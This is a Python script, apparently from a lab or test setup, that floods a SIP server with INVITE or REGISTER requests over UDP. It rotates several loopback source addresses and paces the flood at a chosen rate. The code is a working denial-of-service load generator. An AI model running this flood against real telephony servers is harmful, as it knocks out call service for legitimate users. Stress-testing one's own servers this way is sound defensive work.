#!/usr/bin/env python3
"""One flood by UDP, in a process of its own so that it takes no turns from the honest phones.

    floods.py invites|unacknowledged|registers HOST PORT DOMAIN USER SECONDS RATE FIRST-SOURCE SOURCES

Prints how many requests were sent, and in how many seconds.
"""
import random
import socket
import sys
import time

NET = "127.91.9"


def raw(method, uri, me, via=None, extra="", body="", user="mallory", domain="site.east", to_tag="", branch=None, call_id=None, tag=None, cseq=1,
        transport="UDP", to=None):
    n = f"{random.getrandbits(48):x}"
    via = via or f"SIP/2.0/{transport} {me};rport"
    return (f"{method} {uri} SIP/2.0\r\nVia: {via};branch={branch or 'z9hG4bK' + n}\r\nMax-Forwards: 70\r\n"
            f"From: <sip:{user}@{domain}>;tag={tag or n}\r\nTo: <{to or uri}>{to_tag}\r\nCall-ID: {call_id or n}\r\nCSeq: {cseq} {method}\r\n"
            f"Contact: <sip:{user}@{me}>\r\n{extra}Content-Length: {len(body)}\r\n\r\n{body}").encode()


def udp(ip):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.bind((ip, 0))
    return one, "%s:%d" % one.getsockname()


def paced(seconds, rate, send):
    """Call send(i) @rate times a second; what is late is made up for."""
    begin, count = time.monotonic(), int(seconds * rate)
    for i in range(count):
        send(i)
        ahead = begin + (i + 1) / rate - time.monotonic()
        if ahead > 0.002:
            time.sleep(ahead)
    return count, time.monotonic() - begin


def main():
    what, host, port, domain, user = sys.argv[1:6]
    seconds, rate, first, sources = (int(word) for word in sys.argv[6:])
    senders = [udp(f"{NET}.{first + i}") for i in range(sources)]
    far = (host, int(port))

    def invite(i):
        one, me = senders[i % sources]
        one.sendto(raw("INVITE", f"sip:{user}@{domain}", me, domain=domain), far)

    def register(i):
        one, me = senders[i % sources]
        one.sendto(raw("REGISTER", f"sip:{domain}", me, user=f"{user}{i}", domain=domain, to=f"sip:{user}{i}@{domain}", extra="Expires: 60\r\n"), far)

    sent, took = paced(seconds, rate, register if what == "registers" else invite)
    print(f"{sent} in {took:.1f} s")


if __name__ == "__main__":
    main()
